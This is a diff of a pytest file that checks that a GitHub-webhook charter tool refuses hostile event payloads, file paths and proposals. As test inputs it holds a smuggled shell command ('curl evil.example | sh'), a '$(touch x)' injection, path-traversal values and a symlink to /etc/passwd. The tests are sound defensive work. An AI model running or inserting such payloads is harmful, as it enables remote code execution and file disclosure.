@@ -2,46 +2,20 @@
 
 from __future__ import annotations
 
-import copy
 import json
-import subprocess
-from pathlib import Path
 
 import pytest
 
-from builders import (
-    make_signatory,
-    release_draft,
-    write_charter,
-    write_note,
-    write_signatory,
-)
 from press import forge
-from press.cli import main
 from press.forge.comment import shown
 from press.forge.files import MOST_FILES
 from press.markup import html as to_html
 from press.model import Finding, Severity
+from recorded import changed, payload
 
-PAYLOADS = Path(__file__).parent / "payloads"
-FIRST = "themes/moorings/moorings-first.md"
-
-
-def payload(name):
-    """A recorded payload."""
-    return json.loads((PAYLOADS / f"{name}.json").read_text(encoding="utf-8"))
-
-
-def changed(name, **values):
-    """The bytes of a payload with other values, each at a path such as pull_request__head__sha."""
-    event = copy.deepcopy(payload(name))
-    for path, value in values.items():
-        *parents, last = path.split("__")
-        place = event
-        for parent in parents:
-            place = place[parent]
-        place[last] = value
-    return json.dumps(event).encode()
+PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
+SHELL = '"; curl evil.example | sh #'
+HEAD = payload(PULL)["pull_request"]["head"]["sha"]
 
 
 # --- Payloads ----------------------------------------------------------------------------------------
@@ -49,20 +23,18 @@ def changed(name, **values):
 
 def test_a_payload_gives_no_more_than_is_needed():
     """No title, no branch and no name of a person is taken."""
-    asked = forge.proposal(changed("pull_request.opened"))
+    asked = forge.proposal(changed(PULL))
     assert asked == forge.Proposal(
         number=12,
         repository="harbour-partners/charter",
         base="f95f852bd8fca8fcc58a9a2d6c842781e32a215e",
         head="ec26c3e57ca3a959ca5aad62de7213c562f8c821",
     )
-    form = forge.issue(changed("issues.opened"))
+    form = forge.issue(changed(ISSUE))
     assert (form.number, form.labels, form.branch) == (31, ("sign-up",), "sign-up/31")
     assert form.body.startswith("### Name of your organisation\n")
 
 
-PULL, ISSUE = "pull_request.opened", "issues.opened"
-SHELL = '"; curl evil.example | sh #'
 BAD_PULLS = {
     "no JSON": (b"{", "event-malformed"),
     "no text": (b"\xff\xfe{}", "event-malformed"),
@@ -85,6 +57,15 @@ BAD_PULLS = {
     "no head": (changed(PULL, pull_request__head=None), "event-form"),
     "a path for a repository": (changed(PULL, repository__full_name="../../etc"), "event-repository"),
     "a mark for a repository": (changed(PULL, repository__full_name="a/b)[x](evil"), "event-repository"),
+    "a number beyond all": (changed(PULL, number=2**60, pull_request__number=2**60), "event-number"),
+    "a run that goes on": (changed(RUN, action="requested"), "event-action"),
+    "a run of no commit": (changed(RUN, workflow_run__head_sha=SHELL), "event-commit"),
+    "a run of no repository": (changed(RUN, workflow_run__head_repository=None), "event-form"),
+    "a run of another host": (
+        changed(RUN, workflow_run__head_repository__full_name="https://evil.example/a/b"),
+        "event-repository",
+    ),
+    "a run as text": (changed(RUN, workflow_run="x"), "event-kind"),
     "huge": (changed(PULL, pull_request__body="x" * 6_000_000), "event-large"),
 }
 
@@ -96,6 +77,61 @@ def test_a_hostile_payload_is_refused_by_name(case):
     with pytest.raises(forge.EventError) as refused:
         forge.proposal(data)
     assert refused.value.name == name
+
+
+def test_the_pull_request_is_found_for_which_a_workflow_ran():
+    """By commit, branch and repository: the payload does not name the one of a fork."""
+    listed = changed("pulls")
+    assert forge.proposal(changed(RUN), listed) == forge.proposal(changed(PULL))
+    assert forge.proposal(changed(RUN)) is None
+
+
+NOT_THEIRS = {
+    "moved on": {"1__0__head__sha": "2" * 40},
+    "another branch of that commit": {"1__0__head__ref": "elsewhere"},
+    "another fork of that commit": {"1__0__head__repo__full_name": "eve/charter"},
+    "a fork that was deleted": {"1__0__head__repo": None},
+}
+
+
+@pytest.mark.parametrize("case", NOT_THEIRS)
+def test_no_other_pull_request_is_answered_for_a_run(case):
+    """One that shows the same commit from elsewhere takes nobody's place."""
+    assert forge.proposal(changed(RUN), changed("pulls", **NOT_THEIRS[case])) is None
+
+
+BAD_LISTS = {
+    "a pull request of another repository": ({"1__0__base__repo__full_name": "../x"}, "event-repository"),
+    "a pull request without a number": ({"1__0__number": "12"}, "event-number"),
+    "a pull request without a commit": ({"1__0__base__sha": "main"}, "event-commit"),
+    "a pull request without a head": ({"1__0__head": []}, "event-form"),
+}
+
+
+@pytest.mark.parametrize("case", BAD_LISTS)
+def test_a_hostile_list_is_refused_by_name(case):
+    """The host writes it, of what strangers made."""
+    values, name = BAD_LISTS[case]
+    with pytest.raises(forge.EventError) as refused:
+        forge.proposal(changed(RUN), changed("pulls", **values))
+    assert refused.value.name == name
+
+
+def test_the_newest_site_of_a_commit_is_linked():
+    """By numbers alone: whoever proposes something names artifacts as they like, of their own commits."""
+    runs = "https://github.com/a/b/actions/runs"
+    assert forge.preview(changed("artifacts"), "a/b", HEAD) == f"{runs}/9100000123/artifacts/3300000456"
+    assert forge.preview(changed("artifacts", artifacts__0__expired=True), "a/b", HEAD).endswith(
+        "/3300000111"
+    )
+    assert forge.preview(changed("artifacts", artifacts__0__name="tests"), "a/b", HEAD).endswith(
+        "/3300000111"
+    )
+    assert forge.preview(changed("artifacts", artifacts__0__workflow_run=None), "a/b", HEAD).endswith("0111")
+    assert forge.preview(changed("artifacts"), "a/b", "3" * 40) == ""
+    for wrong in ({"artifacts": "x"}, {"artifacts__0__id": "../1"}, {"artifacts__0__workflow_run__id": -1}):
+        with pytest.raises(forge.EventError):
+            forge.preview(changed("artifacts", **wrong), "a/b", HEAD)
 
 
 BAD_ISSUES = {
@@ -126,6 +162,19 @@ BAD_FILES = {
     "the tool with words": ("hooks/events.py", {}, "machine-and-words"),
     "a template with words": ("overrides/main.html", {}, "machine-and-words"),
     "the settings with words": ("mkdocs.yml", {}, "machine-and-words"),
+    "what git does to files, in the charter": ("charter/themes/.gitattributes", {}, "machine-and-words"),
+    "where git finds files": ("charter/.lfsconfig", {}, "machine-and-words"),
+    "repositories of others": ("docs/.gitmodules", {}, "machine-and-words"),
+    "a program beside the pages": ("docs/developers/x.py", {}, "machine-and-words"),
+    "a page at the top that is none": ("conftest.py", {}, "machine-and-words"),
+    "the way out of lost addresses": (".github/addresses-given-up.txt", {}, "machine-and-words"),
+    "a file kept elsewhere": (
+        "charter/themes/x.md",
+        {"start": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"},
+        "lfs-pointer",
+    ),
+    "a short name of Windows": ("charter/GIT~1/hooks/x.md", {}, "name-outside"),
+    "a space at the end": ("charter/themes/x.md ", {}, "name-reserved"),
     "what git does to files": (".gitattributes", {}, "machine-and-words"),
     "a link": ("charter/themes/x.md", {"mode": "120000"}, "symlink"),
     "the folder as a link": ("charter", {"mode": "120000"}, "symlink"),
@@ -141,8 +190,8 @@ BAD_FILES = {
     "a name that is no text": ("charter/themes/\udcff.md", {}, "name-hidden"),
     "a long name": ("charter/themes/" + "x" * 250 + ".md", {}, "name-long"),
     "a large file": ("docs/x.md", {"size": 2_000_000}, "file-large"),
-    "a file that is no text": ("charter/themes/x.md", {"text": False}, "file-binary"),
-    "a picture in the charter": ("charter/x.png", {"text": False}, "file-binary"),
+    "a file that is no text": ("charter/themes/x.md", {"start": b"\0"}, "file-binary"),
+    "a picture in the charter": ("charter/x.png", {"start": b"\0"}, "file-binary"),
     "another case": ("charter/Preamble.md", {}, "name-case"),
     "another case of a folder": ("charter/THEMES/x.md", {}, "name-case"),
     "an accent written otherwise": ("docs/cafe\u0301.md", {}, "name-case"),
@@ -164,7 +213,9 @@ def test_a_hostile_file_is_refused_by_name(case):
 
 def test_an_honest_proposal_is_not_refused():
     """Words, notes, pages and pictures of pages; the machine alone is only pointed out."""
-    words = [forge.Touched(path=f"charter/{name}", mode=FILE) for name in (FIRST, "changes/why.md")]
+    words = [
+        forge.Touched(path=f"charter/{name}", mode=FILE) for name in ("themes/tides/x.md", "changes/why.md")
+    ]
     pages = [forge.Touched(path=path, mode=FILE, before=FILE) for path in ("docs/about.md", "README.md")]
     assert forge.judge([*words, *pages], "charter", THERE) == ()
     (machine,) = forge.judge([forge.Touched(path="mkdocs.yml", mode=FILE)], "charter", THERE)
@@ -255,205 +306,3 @@ def test_a_site_is_not_published_where_none_can_be(site):
     """The default is a name that nobody has."""
     with pytest.raises(Exception, match="SITE_URL"):
         forge.publishable(site)
-
-
-# --- The command -------------------------------------------------------------------------------------
-
-
-def git(folder, *arguments):
-    """Runs git in a folder, as nobody in particular."""
-    who = ("-c", "user.name=A", "-c", "user.email=a@b.example", "-c", "commit.gpgsign=false")
-    return subprocess.run(
-        ["git", "-C", str(folder), *who, *arguments], check=True, capture_output=True, text=True
-    ).stdout.strip()
-
-
-@pytest.fixture
-def proposed(tmp_path, monkeypatch, capsys):
-    """A repository with a released charter and two signatories, a change of it in the folder `proposal`, and
-    what `charter respond pull-request` says of it: proposed(change) → exit code, words."""
-    repo, proposal = tmp_path / "repo", tmp_path / "proposal"
-    repo.mkdir()
-    root = write_charter(repo)
-    release_draft(root, first=True)
-    write_signatory(root, make_signatory("quay-club-1", name="Quay @club #1"))
-    write_signatory(root, make_signatory("mole-club"))
-    git(repo, "init", "--quiet", "--initial-branch", "main")
-    git(repo, "add", "--all")
-    git(repo, "commit", "--quiet", "--message", "x")
-    base = git(repo, "rev-parse", "HEAD")
-    git(repo, "worktree", "add", "--quiet", "--detach", str(proposal))
-    monkeypatch.chdir(repo)
-
-    def respond(change, head=None):
-        change(proposal)
-        git(proposal, "add", "--all")
-        git(proposal, "commit", "--quiet", "--allow-empty", "--message", "y")
-        head = head or git(proposal, "rev-parse", "HEAD")
-        event = tmp_path / "event.json"
-        event.write_bytes(changed(PULL, pull_request__base__sha=base, pull_request__head__sha=head))
-        asked = ["--event", str(event), "--base", str(repo), "--proposal", str(proposal)]
-        code = main(["respond", "pull-request", *asked])
-        return code, capsys.readouterr()
-
-    return respond
-
-
-def first(folder):
-    """The file of a principle."""
-    return next(iter(sorted((folder / "charter" / "themes").glob("*/*-first.md"))))
-
-
-def strengthen(folder):
-    """An honest change: another promise, and why."""
-    file = first(folder)
-    file.write_text(file.read_text().replace("every day.", "every hour."))
-    write_note(folder / "charter", file.stem, class_="commitment")
-
-
-def test_an_honest_proposal_is_answered(proposed):
-    """Its class, the next version, who signs again, and the redline; nobody is called by it."""
-    code, (said, _) = proposed(strengthen)
-    assert code == 0
-    assert said.startswith("<!-- charter: what this changes -->\n## What this changes\n")
-    assert "of the class commitment" in said
-    assert "the next version is 2.0.0" in said.replace("\\", "")
-    assert "It asks 2 organisations to sign again: " in said
-    assert "@club" not in said
-    assert "~~day~~**hour**" in said.replace("\\", "")
-    assert "](https://github.com/harbour-partners/charter/pull/12/checks)" in said
-    assert "To mend first" not in said
-
-
-def edit_release(folder):
-    """Other words in what was signed."""
-    file = folder / "charter" / "releases" / "1.0.0.json"
-    file.write_text(file.read_text().replace("every day.", "now and then."))
-
-
-def link_charter(folder):
-    """The charter's folder leads elsewhere."""
-    (folder / "charter").rename(folder / "elsewhere")
-    (folder / "charter").symlink_to("elsewhere")
-
-
-def link_file(folder):
-    """A file of the charter leads elsewhere."""
-    first(folder).unlink()
-    first_path = folder / "charter" / "preamble.md"
-    first_path.unlink()
-    first_path.symlink_to("/etc/passwd")
-
-
-def touch_two(folder):
-    """Two entries that are there."""
-    for file in (folder / "charter" / "signatories").glob("*.yml"):
-        file.write_text(file.read_text() + "pledge: Ours.\n")
-
-
-def huge(folder):
-    """A principle of 2 MB."""
-    first(folder).write_text("x" * 2_000_000)
-
-
-HOSTILE = {
-    "an edited release": (edit_release, "release-digest"),
-    "a deleted release": (
-        lambda folder: (folder / "charter/releases/1.0.0.json").unlink(),
-        "release-missing",
-    ),
-    "a renamed release": (
-        lambda folder: (folder / "charter/releases/1.0.0.json").rename(
-            folder / "charter/releases/1.0.1.json"
-        ),
-        "release-name",
-    ),
-    "entries of two others": (touch_two, "signatory-others"),
-    "a deleted entry": (
-        lambda folder: (folder / "charter/signatories/mole-club.yml").unlink(),
-        "signatory-removed",
-    ),
-    "the folder as a link": (link_charter, "symlink"),
-    "a link out of the repository": (link_file, "symlink"),
-    "a huge file": (huge, "file-large"),
-    "binary": (lambda folder: first(folder).write_bytes(b"\0\1\2"), "file-binary"),
-    "a workflow beside words": (
-        lambda folder: (strengthen(folder), (folder / "mkdocs.yml").write_text("hooks: [x.py]\n")),
-        "machine-and-words",
-    ),
-    "half an accent": (lambda folder: first(folder).write_bytes(b"---\ntitle: \xff\n---\n"), "not-utf8"),
-}
-
-
-@pytest.mark.parametrize("case", HOSTILE)
-def test_a_hostile_proposal_is_refused_by_name(proposed, case):
-    """From real commits, and nothing of them is run or followed."""
-    change, rule = HOSTILE[case]
-    code, (said, err) = proposed(change)
-    assert (code, err) == (1, "")
-    assert f"({rule})" in said.replace("\\", "")
-    assert "root:" not in said
-
-
-def test_another_commit_than_the_events_is_refused(proposed):
-    """What was checked out is what was asked about."""
-    code, (_, err) = proposed(strengthen, head="a" * 40)
-    assert (code, err.startswith("error: event-moved: ")) == (2, True)
-
-
-def test_a_form_is_written_to_a_file_and_its_branch_is_named(tmp_path, capsys):
-    """The branch is made of the number alone."""
-    to = tmp_path / "form.md"
-    event = tmp_path / "event.json"
-    event.write_bytes(changed(ISSUE, issue__title=SHELL, issue__body=f"$(touch x)\r\n{SHELL}"))
-    assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 0
-    assert (capsys.readouterr().out, to.read_bytes()) == ("sign-up/31\n", f"$(touch x)\n{SHELL}".encode())
-    event.write_bytes(changed(ISSUE, issue__labels=[]))
-    assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 2
-    assert capsys.readouterr().err.startswith("error: event-label: ")
-
-
-def test_the_weekly_issue_tells_how_the_register_stands(tmp_path, capsys):
-    """And which files are left out of it."""
-    root = write_charter(tmp_path)
-    release_draft(root, first=True)
-    write_signatory(root, make_signatory("quay-club"))
-    write_signatory(root, make_signatory("pirates", kind="pirates"))
-    (tmp_path / "links.md").write_text("No organisation named a page to ask for.\n")
-    asked = ["respond", "weekly", "--links", str(tmp_path / "links.md")]
-    assert main(["--source", str(root), *asked]) == 0
-    said = capsys.readouterr().out
-    assert said.startswith(
-        "<!-- charter: this week -->\n## The register\n\n- 1: signed the current version\n"
-    )
-    assert "pirates" in said.split("## Left out of the register")[1]
-    assert said.endswith("## Their pages\n\nNo organisation named a page to ask for.\n")
-
-
-def test_a_site_that_lost_an_address_is_not_published(tmp_path, capsys):
-    """The list of addresses goes out with the site that keeps them all."""
-    site, before = tmp_path / "site", tmp_path / "before.txt"
-    (site / "about").mkdir(parents=True)
-    (site / "about" / "index.html").write_text("x")
-    before.write_text("about/\nversions/1.0.0/\n")
-    asked = ["respond", "addresses", "--site", str(site), "--site-url", "https://charter.org/"]
-    assert main([*asked, "--before", str(before)]) == 1
-    assert "  versions/1.0.0/\n" in capsys.readouterr().out
-    assert not (site / "addresses.txt").exists()
-    before.write_text("about/\n")
-    assert main([*asked, "--before", str(before)]) == 0
-    assert (site / "addresses.txt").read_text() == "about/\n"
-
-
-def test_versions_without_a_tag_are_named(tmp_path, capsys):
-    """Until they have one."""
-    root = write_charter(tmp_path)
-    release_draft(root, first=True)
-    git(tmp_path, "init", "--quiet")
-    git(tmp_path, "add", "--all")
-    git(tmp_path, "commit", "--quiet", "--message", "x")
-    assert main(["--source", str(root), "respond", "tags"]) == 0
-    assert capsys.readouterr().out == "1.0.0\n"
-    git(tmp_path, "tag", "1.0.0")
-    assert main(["--source", str(root), "respond", "tags"]) == 0
-    assert capsys.readouterr().out == ""
